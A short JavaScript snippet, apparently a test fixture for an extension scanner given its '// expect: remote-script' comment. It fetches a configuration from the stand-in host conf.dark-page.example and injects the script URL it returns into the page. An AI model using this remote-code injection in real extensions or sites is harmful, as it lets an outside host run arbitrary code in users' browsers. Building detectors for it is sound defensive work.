chrome.runtime.sendMessage({ what: 'settings' });
fetch('https://conf.dark-page.example/v1')
  .then((answer) => answer.json())
  .then((conf) => {
    const tag = document.createElement('script');
    // expect: remote-script
    tag.src = conf.scripts[0];
    document.body.append(tag);
  });
